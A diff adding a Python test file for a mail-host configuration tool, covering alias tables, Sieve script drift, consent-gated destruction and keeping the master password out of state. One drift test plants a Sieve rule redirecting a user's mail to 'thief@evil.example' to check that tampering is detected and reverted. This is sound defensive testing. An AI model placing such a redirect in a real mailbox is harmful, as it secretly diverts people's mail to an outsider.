@@ -1,0 +1,77 @@
+"""Tables and scripts through the embedded engine: adopted, changed, repaired, taken away."""
+
+from __future__ import annotations
+
+import json
+
+from mailwright.hosts.mail.managesieve import Session
+from tests.mail_host.worlds import COMPANY, DOMAIN, PEOPLE, Company
+from tests.mailboxes.live import MASTER_PASSWORD
+
+FOREIGN = b"# mine, caf\xe9\nroot@other.example  x@other.example\nhelp@acme-trade.com  wang@acme-trade.com\n"
+OWN = 'require "fileinto";\r\nfileinto "Own";\r\n'
+LOSS = "role-address-emptied"
+
+
+def test_the_whole_life_of_a_company(served: Company) -> None:
+    assert served.live is not None
+    (served.tables / "aliases").write_bytes(FOREIGN)
+    with Session(served.live.login("wang")) as session:
+        session.put("own", OWN)
+        session.activate("own")
+    served.write()
+    before = served.files(), served.scripts("wang")
+
+    assert [step.action for step in served.run("preview").changes] == ["create"]
+    assert (served.files(), served.scripts("wang")) == before and not served.state.exists()
+    made = served.up()
+    assert f"+ aliases info@{DOMAIN} wang+info@{DOMAIN}" in made.steps[0].lines
+    scripts, active = served.scripts("wang")
+    assert active == "mailwright" and 'include :personal :optional "own"' in scripts["mailwright"]
+    assert served.files()["aliases"].startswith(FOREIGN)
+    assert not served.up().changes
+    deployed = served.files(), served.scripts("wang"), served.scripts("li")
+
+    aliases = served.tables / "aliases"
+    aliases.write_bytes(
+        aliases.read_bytes().replace(b"sales@acme-trade.com  wang", b"sales@acme-trade.com  chen")
+    )
+    with Session(served.live.login("wang")) as session:
+        session.put("mailwright", 'redirect "thief@evil.example";\r\n')
+    drift = served.run("refresh")
+    (step,) = drift.changes
+    assert step.action == "drift"
+    assert f"+ aliases sales@{DOMAIN} chen@{DOMAIN}, li@{DOMAIN}" in step.lines
+    assert '    + redirect "thief@evil.example";' in step.lines
+    served.up()
+    assert (served.files(), served.scripts("wang"), served.scripts("li")) == deployed
+    assert not served.up().changes
+
+    refused = served.run("destroy")
+    assert refused.refused and f"[{LOSS}] abuse@{DOMAIN}, " in refused.problems[0]
+    assert (served.files(), served.scripts("wang"), served.scripts("li")) == deployed
+    assert not served.run("destroy", allow=LOSS).problems
+    assert (served.files(), served.scripts("wang")) == before
+    assert json.loads(served.state.read_text())["deployment"]["resources"] == []
+
+
+def test_no_password_is_in_the_state_or_in_what_is_said(served: Company) -> None:
+    served.write()
+    said = repr(served.up()) + repr(served.run("refresh"))
+    assert MASTER_PASSWORD not in served.state.read_text()
+    assert MASTER_PASSWORD not in said
+
+
+def test_an_address_that_reached_somebody_goes_only_with_consent(company: Company) -> None:
+    company.write(COMPANY)
+    company.up()
+    deployed = company.files()
+    company.write(PEOPLE)
+    for command in ("preview", "up"):
+        outcome = company.run(command)
+        assert outcome.refused and f"agent@{DOMAIN}, info@{DOMAIN}, sales@{DOMAIN}" in outcome.problems[0]
+        assert company.files() == deployed
+    company.write(PEOPLE, more=f"allow: [{{rule: {LOSS}, until: 2026-11-30, why: closed}}]\n")
+    assert company.run("up", day="2026-12-01").refused
+    company.up()
+    assert not company.routing().reaches(f"info@{DOMAIN}") and company.routing().reaches(f"wang@{DOMAIN}")
